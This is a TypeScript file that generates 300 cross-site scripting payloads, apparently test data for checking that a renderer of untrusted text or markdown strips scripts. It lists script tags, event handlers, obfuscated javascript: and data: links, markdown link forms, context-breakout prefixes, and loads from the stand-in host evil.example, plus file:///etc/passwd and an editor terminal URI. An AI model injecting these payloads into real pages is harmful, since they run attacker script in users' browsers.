/** 300 ways to smuggle a script into a page that shows foreign text. Each calls `pwned` or asks for something from evil.example. */
const call = 'window.top.pwned=window.pwned=1';
const tags = [
  `<script>${call}</script>`, `<img src=x onerror="${call}">`, `<svg onload="${call}">`, `<svg><script>${call}</script></svg>`, `<style onload="${call}">a{}</style>`, `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<iframe src="javascript:${call}"></iframe>`, `<object data="https://evil.example/o">`, `<embed src="https://evil.example/e">`, '<link rel=stylesheet href=https://evil.example/l.css>', '<base href=https://evil.example/>', `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<body onload="${call}">`, `<details open ontoggle="${call}">x</details>`, `<input autofocus onfocus="${call}">`, `<video><source onerror="${call}"></video>`, `<a href="javascript:${call}">x</a>`, `<form action="javascript:${call}"><button>x</button></form>`, '<img src=https://evil.example/i.png>', `<math><mtext><style><img src=x onerror="${call}"></style></mtext></math>`,
  `<template><script>${call}</script></template>`, `<noscript><img src=x onerror="${call}"></noscript>`, `<marquee onstart="${call}">x</marquee>`, `<textarea></textarea><script>${call}</script>`, `<!--<script>-->${call}<!--</script>-->`,
];
const targets = [`javascript:${call}`, `JaVaScRiPt:${call}`, `&#106;avascript:${call}`, `java&#9;script:${call}`, `data:text/html,<script>${call}</script>`, `vbscript:${call}`, 'command:workbench.action.terminal.new', 'vscode://x/y', 'file:///etc/passwd', '//evil.example/x', `javascript&colon;${call}`, `\u0001javascript:${call}`];
const links = targets.flatMap((target) => [`[x](${target})`, `[x](<${target}>)`, `![x](${target})`, `<${target}>`, `[[${target}]]`]);
const breakouts = ['">', "'>", '-->', ']]>', '</td>', '</table>', '</svg>', '\u2028', '`', '${', '{{', '\\"'];

const all = [...tags, ...links, ...breakouts.flatMap((breakout) => tags.slice(0, 18).map((tag) => `${breakout}${tag}`))];
export const payloads: readonly string[] = all.slice(0, 300);
